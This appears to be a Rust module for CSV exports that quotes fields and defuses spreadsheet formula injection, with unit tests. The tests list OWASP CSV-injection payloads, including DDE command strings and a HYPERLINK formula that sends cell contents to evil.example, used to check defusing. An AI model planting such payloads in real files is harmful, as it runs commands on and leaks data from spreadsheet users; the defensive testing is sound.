//! CSV as every export writes it: RFC 4180 fields, and text a spreadsheet would run as a
//! formula defused (OWASP, "CSV Injection"). The ticket and billing exports once quoted cells
//! each their own way, and one of them let a tab or carriage return before a formula through.

/// What a spreadsheet takes as the start of a formula: OWASP's list (=, +, -, @, tab, carriage
/// return), line feed, and the full-width forms some spreadsheets also accept.
const FORMULA_STARTS: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

/// How long an export waits on a client that has stopped reading before giving up.
pub const STALL: std::time::Duration = std::time::Duration::from_secs(30);

/// Hands a chunk of an export to the response; false once the client has gone away or has
/// stopped reading for [`STALL`], when the export should end.
pub async fn send(out: &tokio::sync::mpsc::Sender<String>, chunk: String) -> bool {
    matches!(
        tokio::time::timeout(STALL, out.send(chunk)).await,
        Ok(Ok(()))
    )
}

/// One field of text: a leading apostrophe when it could start a formula (the spreadsheet then
/// shows it as text), quoted when it holds a comma, a quote or a line break.
pub fn text(value: &str) -> String {
    let guarded = if value.starts_with(FORMULA_STARTS) {
        format!("'{value}")
    } else {
        value.to_string()
    };
    if guarded.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", guarded.replace('"', "\"\""))
    } else {
        guarded
    }
}

/// A line of fields that are already CSV (from [`text`], or numbers, which stay numbers: a
/// negative amount must not be defused into text).
/// An instant as the exports write it: UTC, ISO 8601, whole seconds (`2026-12-03T09:30:00Z`),
/// like the ticket export's, which PostgreSQL formats.
pub fn instant(at: time::OffsetDateTime) -> String {
    let format =
        time::macros::format_description!("[year]-[month]-[day]T[hour]:[minute]:[second]Z");
    at.to_offset(time::UtcOffset::UTC)
        .format(&format)
        .unwrap_or_default()
}

pub fn line<I: IntoIterator<Item = String>>(fields: I) -> String {
    let mut out = fields.into_iter().collect::<Vec<_>>().join(",");
    out.push_str("\r\n");
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_stays_as_it_is_and_specials_are_quoted() {
        assert_eq!(text("plain"), "plain");
        assert_eq!(text("INV-1"), "INV-1");
        assert_eq!(text("a,b"), "\"a,b\"");
        assert_eq!(text("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(text("line\nbreak"), "\"line\nbreak\"");
        assert_eq!(line([text("a"), "-1.50".into()]), "a,-1.50\r\n");
    }

    /// OWASP's CSV-injection payloads, and the characters that start them.
    #[test]
    fn owasp_payloads_are_defused() {
        let payloads = [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "=1+1;=2+2",
            "\u{FF1D}1+1",
            "\u{FF0B}1+1",
            "\u{FF0D}1+1",
            "\u{FF20}SUM(1)",
        ];
        for payload in payloads {
            let field = text(payload);
            let unquoted = field
                .strip_prefix('"')
                .and_then(|f| f.strip_suffix('"'))
                .unwrap_or(&field);
            assert!(unquoted.starts_with('\''), "{payload:?} became {field:?}");
            assert_eq!(
                unquoted[1..].replace("\"\"", "\""),
                payload,
                "the text itself is kept"
            );
        }
        assert_eq!(text("=HYPERLINK(\"x\")"), "\"'=HYPERLINK(\"\"x\"\")\"");
        assert_eq!(text("-1"), "'-1");
    }
}
